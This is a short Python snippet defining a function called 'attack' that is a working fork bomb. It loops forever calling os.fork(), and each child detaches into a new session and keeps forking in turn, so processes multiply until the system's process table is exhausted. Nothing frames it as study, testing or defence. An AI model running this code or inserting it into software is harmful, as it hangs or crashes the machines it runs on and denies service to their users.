import os


def attack():
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            pass
